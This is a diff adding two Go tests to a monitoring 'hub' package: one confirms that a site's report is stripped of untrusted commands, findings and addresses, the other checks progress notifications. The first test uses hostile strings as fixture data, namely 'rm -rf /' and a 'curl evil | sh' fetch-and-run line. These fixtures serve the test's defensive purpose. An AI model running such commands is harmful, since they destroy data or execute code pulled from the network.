@@ -2,6 +2,7 @@ package hub
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"math/rand/v2"
@@ -130,6 +131,48 @@ func TestSilence(t *testing.T) {
 		if got := s.parts["fra"].isOver(); got != c.silent || s.parts["par"].isOver() {
 			t.Errorf("%+v: %v", c, got)
 		}
+	}
+}
+
+// A site may send whatever it likes: no command, capture or address of its report is kept, and it
+// can't pass for another site.
+func TestSweepKeepsVerdictsAlone(t *testing.T) {
+	t.Parallel()
+	s := sweepOf(heard{})
+	e := event("fra", "a", outcome.NeedsAction)
+	e.Host.Site, e.Host.Address, e.Host.Capture, e.Host.Facts = "par", "10.1.2.3", "captures/a", map[string]any{"evil": "x"}
+	e.Host.Plan = []outcome.PlanStep{{Command: "rm -rf /"}}
+	e.Host.Findings = []outcome.Finding{{ID: "x", Next: []string{"curl evil | sh"}, Remedy: "rm -rf /"}}
+	s.take(e)
+	h := s.Report(t.Context(), "a")
+	text, err := json.Marshal(h)
+	if err != nil || h.Site != "fra" || strings.Contains(string(text), "rm -rf") || strings.Contains(string(text), "evil") || strings.Contains(string(text), "10.1.2.3") || h.Capture != "" {
+		t.Errorf("%s %v", text, err)
+	}
+}
+
+// Who follows a run is woken by the next report, and by nothing that changes nothing.
+func TestSweepTellsProgress(t *testing.T) {
+	t.Parallel()
+	s := sweepOf(heard{})
+	have, of, next := s.progress()
+	s.take(event("fra", "a", outcome.Healthy))
+	<-next
+	if now, _, next := s.progress(); have != 0 || of != 3 || now != 1 {
+		t.Error(have, of, now)
+	} else {
+		s.take(event("fra", "a", outcome.Healthy))
+		select {
+		case <-next:
+			t.Error("a report that came again is news")
+		default:
+		}
+	}
+	s.forget()
+	s.take(event("fra", "b", outcome.Healthy))
+	s.check(time.Now().Add(time.Hour), true)
+	if now, of, _ := s.progress(); now != 1 || of != 3 {
+		t.Error(now, of)
 	}
 }
 
